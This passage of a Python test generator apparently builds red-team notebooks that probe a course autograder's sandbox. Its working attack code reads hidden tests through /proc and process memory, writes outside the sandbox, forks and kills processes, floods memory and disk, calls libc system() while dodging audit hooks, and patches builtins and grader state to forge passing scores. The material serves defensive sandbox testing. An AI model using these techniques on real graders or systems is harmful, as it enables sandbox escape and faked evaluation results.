    """A 5000-digit int (str() refuses it), ints beyond 64 bits, -0.0, the largest and smallest floats, an
    empty frame with the right columns."""
    return notebook(w, tag, [], answers={
        "q1-answer": "n_happened = 10 ** 5000", "q2-answer": "gap_days = -(2 ** 100)\ngap_months = -0.0",
        "q3a-answer": "india_events = timeline.iloc[0:0]", "q3b-answer": "lag_range = (2 ** 63, 2 ** 64)",
        "q4-answer": "ru_pk_ratio = 1.7976931348623157e308\nin_pk_ratio = 5e-324"})


def a16_export_bombs(w, tag):
    """Values that are hard to export: a list nested 100000 deep, self-referencing containers, a 1-million-row
    frame, a 50 MB string, a dict of a million keys."""
    return notebook(w, tag, [r'''
import pandas as pd
_rt_deep = []
_x = _rt_deep
for _ in range(100_000):
    _x.append([])
    _x = _x[0]
_rt_loop = []
_rt_loop.append(_rt_loop)
_rt_dloop = {}
_rt_dloop["self"] = _rt_dloop
'''], answers={
        "q1-answer": "n_happened = _rt_deep", "q2-answer": 'gap_days = _rt_loop\ngap_months = "9" * 50_000_000',
        "q3a-answer": "india_events = pd.concat([timeline] * 100_000, ignore_index=True)",
        "q3b-answer": "lag_range = (_rt_dloop, _rt_loop)",
        "q4-answer": "ru_pk_ratio = {i: i for i in range(1_000_000)}\nin_pk_ratio = _rt_dloop"})


def a17_hostile_values(w, tag):
    """Values whose every hook an exporter might call (__repr__, __reduce_ex__, __getstate__, __len__,
    __iter__, __array__, __index__, __float__, __getattr__ ...) forges records on fds 1 and 2 mid-export and
    pickles to a payload; a DataFrame of them; a matplotlib Axes whose getters forge too."""
    return notebook(w, tag, [r'''
import os
import matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt
import numpy as np
import pandas as pd


def _rt_mid_export():
    try:
        chunks = [b"\n"] + _rt_records(_rt_tokens())[:8] + [b'"}]}\n']
        for fd in (1, 2):
            for c in chunks:
                os.write(fd, c)
    except BaseException:
        pass


class Hostile:
    def __repr__(self):
        _rt_mid_export()
        return "3"

    __str__ = __repr__

    def __format__(self, spec):
        _rt_mid_export()
        return "3"

    def __reduce_ex__(self, protocol):
        _rt_mid_export()
        return _RtBomb(_RT["loader"]).__reduce__()

    def __getstate__(self):
        _rt_mid_export()
        return {"score": 7, "passed": True}

    def __len__(self):
        _rt_mid_export()
        return 1

    def __iter__(self):
        _rt_mid_export()
        return iter([3])

    def __array__(self, *args, **kwargs):
        _rt_mid_export()
        return np.array([3])

    def __index__(self):
        _rt_mid_export()
        return 3

    __int__ = __index__

    def __float__(self):
        _rt_mid_export()
        return 2.0

    def __eq__(self, other):
        _rt_mid_export()
        return True

    def __hash__(self):
        return 0

    def __bool__(self):
        _rt_mid_export()
        return True

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        _rt_mid_export()
        return lambda *args, **kwargs: {"score": 7, "passed": True}

    def __copy__(self):
        _rt_mid_export()
        return self

    def __deepcopy__(self, memo):
        _rt_mid_export()
        return self


_rt_frame = timeline[timeline["id"] == "hindu-report"].copy()
_rt_frame["id"] = pd.Series([Hostile()], index=_rt_frame.index, dtype=object)
_rt_frame.attrs["hostile"] = Hostile()
_rt_fig, _rt_ax = plt.subplots()
_rt_ax.set_title("ratio")
_rt_ax.get_title = lambda *a, **k: (_rt_mid_export(), "ratio")[1]
_rt_ax.get_lines = lambda *a, **k: (_rt_mid_export(), [])[1]
'''], answers={
        "q1-answer": "n_happened = Hostile()", "q2-answer": "gap_days = Hostile()\ngap_months = Hostile()",
        "q3a-answer": "india_events = _rt_frame", "q3b-answer": "lag_range = (Hostile(), Hostile())",
        "q4-answer": "ru_pk_ratio = Hostile()\nin_pk_ratio = _rt_ax"})


def a18_read_repo_paths(w, tag):
    """Hidden tests, master, autograder zip, other submissions and OUT by absolute path, ../ chains, /proc/self/root,
    /proc/1/root, // and /./ spellings, bytes, os.open, io.open_code, file:// URLs, mmap; folders listed."""
    return notebook(w, tag, [r'''
import io, mmap, os, urllib.request
from pathlib import Path
root, base = _RT["root"], _RT["base"]
variants = []
for f in _RT["files"]:
    variants += [f, f.encode(), Path(f), "/proc/self/root" + f, "/proc/1/root" + f, "/proc/self/cwd/" + "../" * 12 + f,
                 "//" + f.lstrip("/"), f.replace("/", "/./")]
    rels = [os.path.relpath(f, root), os.path.relpath(f, base)]
    variants += ["../" * k + r for k in range(1, 10) for r in rels]
for v in variants:
    _rt_read(v)
    try:
        fd = os.open(v, os.O_RDONLY)
        _rt_use(os.read(fd, 20_000_000), v)
        os.close(fd)
    except BaseException:
        pass
for f in _RT["files"]:
    for how in (lambda: io.open_code(f).read(), lambda: urllib.request.urlopen("file://" + f).read(),
                lambda: Path(f).read_bytes()):
        try:
            _rt_use(how(), f)
        except BaseException:
            pass
    try:
        with open(f, "rb") as fh, mmap.mmap(fh.fileno(), 0, access=mmap.ACCESS_READ) as m:
            _rt_use(m[:], f)
    except BaseException:
        pass
for d in _RT["dirs"]:
    for v in [d, "/proc/self/root" + d, "/proc/1/root" + d] + ["../" * k + os.path.relpath(d, root) for k in range(1, 10)]:
        if _rt_sweep(v, 1):
            _rt_canary("listed " + str(v))
'''])


def a19_proc_walk(w, tag):
    """Every pid's /proc cwd, root, environ, cmdline and fds; paths found in them; every mount point of
    /proc/self/mountinfo; /proc/1/root."""
    return notebook(w, tag, [r'''
import os, stat
me = os.getpid()
budget = [600]
deadline = __import__("time").monotonic() + 25


def paths_in(text):
    found = []
    for part in text.replace("\0", " ").replace("=", " ").replace(":", " ").split():
        if part.startswith("/") and len(found) < 30 and not part.startswith(("/proc", "/sys", "/dev", "/usr")):
            found.append(part)
    return found


pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
for pid in pids[:500]:
    if __import__("time").monotonic() > deadline:
        break
    d = f"/proc/{pid}"
    for sub in ("cwd", "root"):
        _rt_sweep(f"{d}/{sub}", 1, budget)
        for extra in ("..", "../..", "../submissions", "../out", "checks", "tests", "job.json", "result.json"):
            target = f"{d}/{sub}/{extra}"
            if not _rt_sweep(target, 1, budget):
                _rt_read(target)
        if sub == "root":
            for f in _RT["files"]:
                _rt_read(d + "/root" + f)
    for sub in ("environ", "cmdline"):
        try:
            with open(f"{d}/{sub}", "rb") as fh:
                text = fh.read().decode("utf-8", "replace")
        except BaseException:
            continue
        for p in paths_in(text):
            if os.path.isdir(p):
                _rt_sweep(p, 1, budget)
            else:
                _rt_read(p)
    try:
        for fd in os.listdir(f"{d}/fd"):
            _rt_read(f"{d}/fd/{fd}")
    except BaseException:
        pass
try:
    with open("/proc/self/mountinfo") as fh:
        mounts = [line.split() for line in fh]
except BaseException:
    mounts = []
for fields in mounts:
    mnt = fields[4] if len(fields) > 4 else "/"
    if mnt.startswith(("/proc", "/sys", "/dev")) or mnt == "/":
        continue
    _rt_sweep(mnt, 2, budget)
    for sub in ("exercises", "dist", "autograder", "tests", "submissions", "out"):
        _rt_sweep(os.path.join(mnt, sub), 2, budget)
for f in _RT["files"]:
    _rt_read("/proc/1/root" + f)
    _rt_read("/proc/1/cwd/" + os.path.basename(f))
'''])


def a20_fds_env_and_apis(w, tag):
    """Inherited descriptors (files read by pread, folders by dir_fd), environment variables, importlib.resources,
    coursekit.instructor.assign and grading helpers, otter with the hidden tests folder, the editable-install finder,
    sys.path neighbours, zipimport, runpy, linecache."""
    return notebook(w, tag, [r'''
import importlib, importlib.resources, linecache, os, re, runpy, stat, sys, zipimport
from pathlib import Path
EX = Path(_RT["exercise"])
for name in os.listdir("/proc/self/fd"):
    try:
        fd = int(name)
        mode = os.fstat(fd).st_mode
        if stat.S_ISREG(mode):
            _rt_use(os.pread(fd, 20_000_000, 0), "fd %d" % fd)
        elif stat.S_ISDIR(mode):
            for entry in os.listdir(fd):
                try:
                    sub = os.open(entry, os.O_RDONLY, dir_fd=fd)
                    _rt_use(os.read(sub, 20_000_000), "fd %d/%s" % (fd, entry))
                    os.close(sub)
                except BaseException:
                    pass
    except BaseException:
        pass
for key, value in os.environ.items():
    for part in re.split("[:;, ]", value):
        if part.startswith("/") and not part.startswith(("/usr", "/bin", "/sbin", "/proc", "/sys", "/dev")):
            if os.path.isdir(part):
                _rt_sweep(part, 1)
            else:
                _rt_read(part)
roots = set()
try:
    here = importlib.resources.files("coursekit")
    roots.add(Path(str(here)).parent)
except BaseException:
    pass
try:
    import coursekit
    roots.add(Path(coursekit.__file__).resolve().parent.parent)
    roots.add(Path(coursekit.ROOT))
except BaseException:
    pass
for finder in [m for m in list(sys.modules) if "editable" in m] + ["__editable___coursekit_0_1_0_finder"]:
    try:
        mod = importlib.import_module(finder)
        roots.update(Path(p).parent for p in getattr(mod, "MAPPING", {}).values())
    except BaseException:
        pass
for p in sys.path:
    if p:
        roots.update([Path(p), Path(p).parent, Path(p).parent.parent])
for r in roots:
    for rel in ("exercises/" + EX.name + "/dist/autograder/tests/q1.py", "exercises/" + EX.name + "/" + EX.name + ".ipynb",
                "exercises/" + EX.name + "/dist/autograder/" + EX.name + "-autograder.zip"):
        _rt_read(r / rel)
try:
    from coursekit.instructor import assign
    for fn in (assign.master_of, assign.autograder_zip, assign.student_notebook):
        try:
            _rt_read(fn(EX))
        except BaseException:
            pass
    try:
        import nbformat
        _rt_use(nbformat.writes(assign.filled(EX)), "assign.filled")
    except BaseException:
        pass
    try:
        for ex in assign.discover():
            _rt_read(assign.master_of(ex))
    except BaseException:
        pass
except BaseException:
    pass
bad = ("write", "main", "grade", "generate", "run", "build", "assign", "save", "clean", "execute", "fetch", "kill")
for modname in [m for m in list(sys.modules) if m.startswith("coursekit")] + ["coursekit.instructor.grading"]:
    try:
        mod = importlib.import_module(modname)
    except BaseException:
        continue
    for attr, fn in list(vars(mod).items()):
        low = attr.lower()
        if not callable(fn) or any(b in low for b in bad) or not re.search("spec|hidden|test|master|solution|zip|question|layout|config", low):
            continue
        for args in ((EX,), (str(EX),), (EX.name,)):
            try:
                res = fn(*args)
            except BaseException:
                continue
            for item in [res] + (list(res.values()) if isinstance(res, dict) else list(res) if isinstance(res, (list, tuple)) else []):
                if isinstance(item, dict) and "spec" in item:
                    item = item["spec"]
                if isinstance(item, (str, Path)) and os.path.exists(str(item)):
                    _rt_read(item)
                else:
                    _rt_use(item if isinstance(item, (dict, bytes, str)) else repr(item), attr)
            break
try:
    import otter
    g = otter.Notebook(tests_dir=_RT["hidden"][0].rsplit("/", 1)[0])
    for q in ("q1", "q2", "q3", "q4"):
        try:
            r = g.check(q)
            if "hidden" in repr(r).lower():
                _rt_use(repr(r), "otter")
        except BaseException:
            pass
except BaseException:
    pass
for f in _RT["hidden"]:
    for how in (lambda: "".join(linecache.getlines(f)), lambda: runpy.run_path(f).get("test")):
        try:
            _rt_use(how(), f)
        except BaseException:
            pass
try:
    z = zipimport.zipimporter(_RT["zip"])
    for q in ("q1", "q2", "q3", "q4"):
        try:
            _rt_use(z.get_data("tests/%s.py" % q), "zipimport")
        except BaseException:
            pass
except BaseException:
    pass
'''])


def a21_write_outside(w, tag):
    """Canary files in the test's folder, the submissions, OUT, the exercise and its hidden tests folder, the
    repository, the data folder, $HOME, /tmp, /var/tmp, /dev/shm, site-packages (a .pth file) and the coursekit
    package (a new module; an existing source opened r+ and chmod'ed to its own mode), by open, os.open,
    pathlib, shutil, sqlite3, tempfile, rename; plus IPython's %%writefile, %save, %logstart, %history -f."""
    return notebook(w, tag, [r'''
import os, shutil, sqlite3, tempfile
from pathlib import Path
M = _RT["marker"]
folders = [_RT["base"], os.path.join(_RT["base"], "canaries"), _RT["subs"], _RT["out"], os.path.join(_RT["out"], "feedback"),
           _RT["exercise"], os.path.join(_RT["exercise"], "dist", "autograder", "tests"), _RT["root"], _RT["data"],
           os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", _RT["site"], _RT["package"]]
for i, folder in enumerate(folders):
    target = os.path.join(folder, f"{M}-w{i}")
    for how in (lambda: open(target, "w").write("escaped"),
                lambda: os.close(os.open(target + "-os", os.O_WRONLY | os.O_CREAT, 0o644)),
                lambda: Path(target + "-pathlib").write_text("escaped"),
                lambda: shutil.copy(__file__ if "__file__" in globals() else "/etc/hostname", target + "-copy"),
                lambda: sqlite3.connect(target + ".db").execute("create table t (x)"),
                lambda: tempfile.mkstemp(prefix=M + "-tmp", dir=folder)):
        try:
            how()
        except BaseException:
            pass
try:  # made inside, moved outside
    open(M + "-moved", "w").write("escaped")
    os.rename(M + "-moved", os.path.join(_RT["base"], "canaries", M + "-renamed"))
except BaseException:
    pass
try:  # a .pth file in site-packages: a comment only (a .pth line that is code would run in every Python)
    open(os.path.join(_RT["site"], M.replace("-", "_") + ".pth"), "w").write("# red-team canary\n")
except BaseException:
    pass
try:  # a new module in the course package, and an existing source opened for writing (nothing written)
    open(os.path.join(_RT["package"], M.replace("-", "_") + ".py"), "w").write("# red-team canary\n")
except BaseException:
    pass
source = os.path.join(_RT["package"], "__init__.py")
try:
    with open(source, "r+"):
        _rt_canary("the course package's source is writable")
except BaseException:
    pass
try:
    os.chmod(source, os.stat(source).st_mode & 0o7777)
    _rt_canary("chmod on the course package worked")
except BaseException:
    pass
ip = get_ipython()
canary = os.path.join(_RT["base"], "canaries", M)
for magic, line, cell in (("writefile", canary + "-writefile", "escaped\n"), ("save", "-f " + canary + "-save.py 1", None),
                          ("logstart", canary + "-log.py", None), ("history", "-f " + canary + "-history.py", None)):
    try:
        if cell is None:
            ip.run_line_magic(magic, line)
        else:
            ip.run_cell_magic(magic, line, cell)
    except BaseException:
        pass
try:
    ip.run_line_magic("logstop", "")
except BaseException:
    pass
'''])


def a22_write_via_links_and_proc(w, tag):
    """Writes out through a symlink, a hard link, /proc/self/root, /proc/1/root, /proc/<pid>/cwd/.. of every
    pid, a directory fd and dir_fd, chdir, mkfifo, mknod."""
    return notebook(w, tag, [r'''
import os, stat
M = _RT["marker"]
outer = [os.path.join(_RT["base"], "canaries"), "/tmp", _RT["base"]]
for i, folder in enumerate(outer):
    target = os.path.join(folder, f"{M}-l{i}")
    try:
        os.symlink(target, f"link{i}")
        open(f"link{i}", "w").write("through a symlink")
    except BaseException:
        pass
    try:
        open("mine.txt", "w").write("x")
        os.link("mine.txt", target + "-hard")
    except BaseException:
        pass
    for via in ("/proc/self/root", "/proc/1/root", "/proc/thread-self/root"):
        try:
            open(via + target + "-proc", "w").write("escaped")
        except BaseException:
            pass
    try:
        fd = os.open(folder, os.O_RDONLY | getattr(os, "O_DIRECTORY", 0))
        os.close(os.open(f"{M}-dirfd{i}", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
        os.close(fd)
    except BaseException:
        pass
    here = os.getcwd()
    try:
        os.chdir(folder)
        open(f"{M}-chdir{i}", "w").write("escaped")
    except BaseException:
        pass
    finally:
        try:
            os.chdir(here)
        except BaseException:
            pass
    for make in (lambda: os.mkfifo(target + "-fifo"), lambda: os.mknod(target + "-node", 0o600 | stat.S_IFREG)):
        try:
            make()
        except BaseException:
            pass
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:300]:
    for rel in ("cwd/..", "cwd/../..", "cwd", "root/tmp"):
        try:  # only folders at most 3 levels deep, where the test looks for (and removes) what lands
            if len([x for x in os.path.realpath(f"/proc/{pid}/{rel}").split("/") if x]) <= 3:
                open(f"/proc/{pid}/{rel}/{M}-pid{pid}", "w").write("escaped")
        except BaseException:
            pass
'''])


def a23_network(w, tag):
    """TCP to the test's listener on 127.0.0.1 (also ::1, localhost, urllib), UDP to its port, its unix socket by
    path and abstract name, DNS; on a connection it sends forged records and wins."""
    return notebook(w, tag, [r'''
import socket, urllib.request
recs = b"".join(_rt_records(_rt_tokens()))
won = []
for family, addr in ((socket.AF_INET, ("127.0.0.1", _RT["tcp"])), (socket.AF_INET6, ("::1", _RT["tcp"])),
                     (socket.AF_UNIX, _RT["unix"]), (socket.AF_UNIX, "\0" + _RT["abstract"])):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(3)
        s.connect(addr)
        s.sendall(recs[:4000])
        s.close()
        won.append(addr)
    except BaseException:
        pass
try:
    socket.create_connection(("localhost", _RT["tcp"]), timeout=3).close()
    won.append("localhost")
except BaseException:
    pass
try:
    urllib.request.urlopen("http://127.0.0.1:%d/" % _RT["tcp"], timeout=3)
except BaseException:
    pass
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(recs[:1000], ("127.0.0.1", _RT["udp"]))
    u.close()
except BaseException:
    pass
for name in ("example.com", "pypi.org"):
    try:
        if socket.getaddrinfo(name, 443):
            won.append(name)
    except BaseException:
        pass
if won:
    _rt_canary("network: " + repr(won))
'''])


def a24_processes(w, tag):
    """subprocess, os.system, os.popen, os.posix_spawn, os.fork, multiprocessing, _posixsubprocess: each child
    reads the hidden tests and the master (output used) and touches the canaries."""
    touch = " ".join(f"'{c}'" for c in w.canaries(tag))
    return notebook(w, tag, [r'''
import os, subprocess, sys
hidden = _RT["hidden"]
TOUCH = @TOUCH@
for f in hidden + [_RT["master"]]:
    try:
        _rt_use(subprocess.run(["cat", f], capture_output=True, timeout=10).stdout, "subprocess " + f)
    except BaseException:
        pass
try:
    subprocess.run(["sh", "-c", "touch " + TOUCH], timeout=10)
except BaseException:
    pass
try:
    os.system("cat '%s' > leak-system.txt; touch %s" % (hidden[0], TOUCH))
    _rt_read("leak-system.txt")
except BaseException:
    pass
try:
    _rt_use(os.popen("cat '%s'" % hidden[1]).read(), "popen")
except BaseException:
    pass
try:
    pid = os.posix_spawn("/bin/sh", ["sh", "-c", "cat '%s' > leak-spawn.txt; touch %s" % (hidden[2], TOUCH)], dict(os.environ))
    os.waitpid(pid, 0)
    _rt_read("leak-spawn.txt")
except BaseException:
    pass
try:
    r, wfd = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            _rt_canary("forked child")
            with open(hidden[3], "rb") as fh:
                os.write(wfd, fh.read())
        finally:
            os._exit(0)
    os.close(wfd)
    chunks = []
    while True:
        c = os.read(r, 65536)
        if not c:
            break
        chunks.append(c)
    os.waitpid(pid, 0)
    _rt_use(b"".join(chunks), "fork")
except BaseException:
    pass
try:
    import multiprocessing
    ctx = multiprocessing.get_context("fork")
    p = ctx.Process(target=_rt_canary, args=("multiprocessing",))
    p.start()
    p.join(10)
except BaseException:
    pass
try:
    import _posixsubprocess
    subprocess._fork_exec = _posixsubprocess.fork_exec
    subprocess.run(["touch", *_RT["canaries"]], timeout=10)
except BaseException:
    pass
try:
    _rt_use("\n".join(get_ipython().getoutput("cat '%s'" % hidden[0])), "getoutput")
except BaseException:
    pass
'''.replace("@TOUCH@", repr(touch))])


def a25_fork_bomb(w, tag):
    """A fork bomb bounded at 128 processes, each named for the test, dying by alarm() after 100 s, then a
    sleep that never ends: the grader's time limit must end all of it."""
    return notebook(w, tag, [r'''
import os, signal, time
for level in range(7):  # 2 ** 7 = 128 processes at most
    try:
        if os.fork() == 0:
            signal.alarm(100)
            _rt_comm()
    except BaseException:
        break
_rt_comm()
time.sleep(10 ** 6)
'''])


def a26_kill_signals(w, tag):
    """SIGSTOP to the parent, then SIGKILL to every process (kill -1), the parent, pid 1, the process groups:
    only where the signals cannot reach the test (else the canaries)."""
    return notebook(w, tag, [r'''
import os, signal, time
if _rt_safe_to_signal():
    for action in (lambda: os.kill(os.getppid(), signal.SIGSTOP), lambda: os.kill(-1, signal.SIGKILL),
                   lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL),
                   lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL)):
        try:
            action()
        except BaseException:
            pass
        time.sleep(0.2)
else:
    _rt_canary("could signal processes outside the sandbox (not sent)")
'''])


def a27_memory_bomb(w, tag):
    """Asks for 30 GB in touched 512 MB chunks (stops while 4 GB are still free, so a grader without a limit
    does not take the machine down)."""
    return notebook(w, tag, [r'''
def _rt_meminfo_gb(key):
    try:
        with open("/proc/meminfo") as fh:
            for line in fh:
                if line.startswith(key + ":"):
                    return int(line.split()[1]) / 2 ** 20
    except BaseException:
        pass
    return 0.0


def _rt_overcommit():
    try:
        with open("/proc/sys/vm/overcommit_memory") as fh:
            return fh.read().strip()
    except BaseException:
        return "1"


_rt_hog = []
if _rt_overcommit() != "1" and _rt_meminfo_gb("MemTotal") + _rt_meminfo_gb("SwapTotal") < 29:
    try:  # one request for all of it: refused by a limit or by the kernel before any page is touched
        _rt_hog.append(bytearray(30 * 2 ** 30))
    except MemoryError:
        pass
while len(_rt_hog) < 60 and _rt_meminfo_gb("MemAvailable") > 4:
    _rt_hog.append(bytearray(b"\x01") * (512 * 2 ** 20))
_rt_hog = None
'''])


def a28_disk_bomb(w, tag):
    """Fills its folder and /tmp with 64 MB files until the disk or a limit says no (2 GB per folder, 25 s)."""
    return notebook(w, tag, [r'''
import os, tempfile, time
chunk = b"\0" * (64 * 2 ** 20)
end = time.monotonic() + 25
for folder in (os.getcwd(), tempfile.gettempdir(), "/tmp"):
    written = 0
    for i in range(32):
        if time.monotonic() > end:
            break
        try:
            with open(os.path.join(folder, "%s-fill-%d" % (_RT["marker"], i)), "wb") as fh:
                fh.write(chunk)
            written += len(chunk)
        except BaseException:
            break
    print(folder, written // 2 ** 20, "MB")
'''])


def a29_output_flood(w, tag):
    """200 MB printed, 200 MB written to fd 1 and 50 MB to fd 2 at the C level."""
    return notebook(w, tag, [r'''
import os, sys
line = ("z" * 1023 + "\n")
for _ in range(200):
    sys.stdout.write(line * 1024)
block = b"w" * (2 ** 20)
for fd, count in ((1, 200), (2, 50)):
    for _ in range(count):
        try:
            os.write(fd, block)
        except OSError:
            break
'''])


def a30_sleep_forever(w, tag):
    """Ignores SIGTERM, SIGINT and SIGHUP and sleeps forever, swallowing KeyboardInterrupt."""
    return notebook(w, tag, [r'''
import signal, time
_rt_comm()
for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    try:
        signal.signal(sig, signal.SIG_IGN)
    except BaseException:
        pass
while True:
    try:
        time.sleep(3600)
    except BaseException:
        pass
'''])


def a31_time_bombs(w, tag):
    """Threads and a Timer that keep forging records (also after the last cell), a SIGALRM handler that forges
    mid-export, atexit forging, and a double-forked daemon (setsid, SIGTERM/SIGHUP ignored, named for the test)
    that forges after the notebook ends and tries the canaries after 35 s."""
    return notebook(w, tag, [r'''
import atexit, os, signal, threading, time


def _rt_forever():
    end = time.monotonic() + 120
    while time.monotonic() < end:
        _rt_forge()
        time.sleep(0.5)


threading.Thread(target=_rt_forever, daemon=True).start()
threading.Timer(3.0, _rt_forge).start()
signal.signal(signal.SIGALRM, lambda *a: _rt_forge())
signal.setitimer(signal.ITIMER_REAL, 2.0, 1.5)
atexit.register(_rt_forge)
try:
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                signal.setitimer(signal.ITIMER_REAL, 0)
                for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(sig, signal.SIG_IGN)
                signal.signal(signal.SIGALRM, signal.SIG_DFL)
                signal.alarm(100)
                _rt_comm()
                start = time.monotonic()
                while time.monotonic() - start < 90:
                    time.sleep(2)
                    _rt_forge()
                    if time.monotonic() - start > 35:
                        _rt_canary("a daemon outlived its notebook")
        finally:
            os._exit(0)
except BaseException:
    pass
'''], tail=["_rt_forge()"])


def a32_proc_mem_ptrace(w, tag):
    """Other processes' /proc/<pid>/environ, cmdline and memory read for hidden tests and nonces; in a PID
    namespace of its own also their memory overwritten and ptrace attached."""
    return notebook(w, tag, [r'''
import ctypes, os, re, time
me = os.getpid()
deadline = time.monotonic() + 20
sig = ("'hidden': " + "True").encode()
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me or time.monotonic() > deadline:
        continue
    for sub in ("environ", "cmdline"):
        _rt_read(f"/proc/{pid}/{sub}")
    try:
        with open(f"/proc/{pid}/maps") as fh:
            regions = [line.split() for line in fh]
        with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
            seen = 0
            for fields in regions:
                lo, hi = (int(x, 16) for x in fields[0].split("-"))
                if "r" not in fields[1] or hi - lo > 256 * 2 ** 20 or seen > 512 * 2 ** 20:
                    continue
                try:
                    mem.seek(lo)
                    blob = mem.read(hi - lo)
                except BaseException:
                    continue
                seen += len(blob)
                for m in re.finditer(re.escape(sig), blob):
                    start = blob.rfind(b"OK_FORMAT", 0, m.start())
                    if start >= 0:
                        _rt_use(blob[start:m.start() + 4000].split(b"\0")[0], f"/proc/{pid}/mem")
    except BaseException:
        pass
    if _rt_own_pidns():  # only processes of this sandbox can be reached: try to break them
        try:
            with open(f"/proc/{pid}/maps") as fh:
                writable = [line.split()[0] for line in fh if " rw" in line][:3]
            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
                for r in writable:
                    mem.seek(int(r.split("-")[0], 16))
                    mem.write(b"\xcc" * 4096)
        except BaseException:
            pass
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
        except BaseException:
            pass
'''])


def a33_ctypes_builtin_slots(w, tag):
    """ctypes clears Py_TPFLAGS_IMMUTABLETYPE of bool, int, float and tuple and patches their slots so that
    inside doctest and exporter frames False prints as True and comparisons of the wrong answers succeed."""
    return notebook(w, tag, [r'''
import ctypes, sys
_RT_FRAMES = ("<doctest", "plain", "export", "snapshot", "runner")


def _rt_in_checks():
    """Called right from a doctest example or an exporter's frame (nowhere else, so the kernel, pandas and the
    grader's own hook keep working)."""
    try:
        caller = sys._getframe(2).f_code.co_filename
    except BaseException:
        return False
    return any(w in caller for w in _RT_FRAMES)


def _rt_unlock(cls):
    flags = ctypes.c_ulong.from_address(id(cls) + 21 * ctypes.sizeof(ctypes.c_void_p))
    if flags.value == cls.__flags__:
        flags.value &= ~(1 << 8)


try:
    for _cls in (bool, int, float, tuple):
        _rt_unlock(_cls)
    _rt_orig = {"bool": bool.__repr__, "int": int.__eq__, "float": float.__sub__, "tuple": tuple.__eq__}
    bool.__repr__ = lambda self: "True" if _rt_in_checks() else _rt_orig["bool"](self)
    int.__eq__ = lambda self, other: True if _rt_in_checks() else _rt_orig["int"](self, other)
    float.__sub__ = lambda self, other: 0.0 if _rt_in_checks() else _rt_orig["float"](self, other)
    tuple.__eq__ = lambda self, other: True if _rt_in_checks() else _rt_orig["tuple"](self, other)
except BaseException as exc:
    print("patch failed:", exc)
'''])


def a34_ctypes_libc_escape(w, tag):
    """libc's system() called through an address found by parsing libc's ELF symbol table (no dlsym, so no
    audit event): cat the hidden tests, master, zip and a solved submission into its folder; touch canaries."""
    return notebook(w, tag, [r'''
import ctypes, os, struct


def _rt_libc_symbol(name):
    base = path = None
    with open("/proc/self/maps") as fh:
        for line in fh:
            fields = line.split()
            if len(fields) >= 6 and "/libc.so" in fields[5] or (len(fields) >= 6 and "/libc-" in fields[5]):
                if int(fields[2], 16) == 0:
                    base, path = int(fields[0].split("-")[0], 16), fields[5]
                    break
    with open(path, "rb") as fh:
        elf = fh.read()
    shoff, = struct.unpack_from("<Q", elf, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
    for s in sections:
        if s[1] == 11:  # SHT_DYNSYM
            strtab = sections[s[6]]
            for off in range(s[4], s[4] + s[5], 24):
                st_name, st_info, st_other, st_shndx, st_value, st_size = struct.unpack_from("<IBBHQQ", elf, off)
                start = strtab[4] + st_name
                if elf[start:elf.index(b"\0", start)] == name.encode() and st_value:
                    return base + st_value
    raise LookupError(name)


try:
    system = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(_rt_libc_symbol("system"))
    for i, f in enumerate(_RT["hidden"] + [_RT["master"], _RT["zip"], os.path.join(_RT["subs"], "control_solved.ipynb")]):
        system(("cat '%s' > libc-leak-%d 2>/dev/null" % (f, i)).encode())
        _rt_read("libc-leak-%d" % i)
    system(("touch " + " ".join("'%s'" % c for c in _RT["canaries"]) + " 2>/dev/null").encode())
except BaseException as exc:
    print("libc route failed:", type(exc).__name__, exc)
'''])


def a35_gc_exporter_state(w, tag):
    """gc.get_objects, gc.get_referrers and sys._current_frames: find grading/export code and state in the
    kernel, rewrite dicts that hold scores, swap functions' code for self-contained forging code, harvest
    nonces and forge."""
    return notebook(w, tag, [r'''
import gc, sys, time, types
words = ("grading", "export", "snapshot", "sandbox", "runner", "plain")
harvest = []
forged = b"".join(_rt_records(_rt_tokens())[:6])
_rt_ns = {}
exec("def _rt_forger(*args, **kwargs):\n"
     "    import os\n"
     "    for fd in (1, 2, 3, 4):\n"
     "        try:\n"
     "            os.write(fd, %r)\n"
     "        except Exception:\n"
     "            pass\n"
     "    return {'score': 7, 'possible': 7, 'passed': True}\n" % forged, _rt_ns)
forge_code = _rt_ns["_rt_forger"].__code__
deadline = time.monotonic() + 10
try:
    objs = gc.get_objects()
except BaseException:
    objs = []
for o in objs:
    if time.monotonic() > deadline:
        break
    try:
        if isinstance(o, types.FunctionType) and any(w in (o.__module__ or "") for w in words):
            harvest.append(repr(o.__defaults__)[:200])
            if not o.__code__.co_freevars:
                o.__code__ = forge_code
        elif isinstance(o, dict) and ("score" in o or "possible" in o):
            o["score"] = o.get("possible", 7)
        elif isinstance(o, str) and 8 <= len(o) <= 64 and len(harvest) < 5000:
            harvest.append(o)
    except BaseException:
        pass
objs = None
try:
    for frame in sys._current_frames().values():
        while frame is not None:
            harvest.append(repr(frame.f_locals)[:2000])
            frame = frame.f_back
except BaseException:
    pass
try:
    for mod in [m for n, m in list(sys.modules.items()) if any(w in n for w in words)]:
        harvest.append(repr(gc.get_referrers(mod))[:2000])
except BaseException:
    pass
_rt_forge(extra=" ".join(harvest[:5000]))
'''])


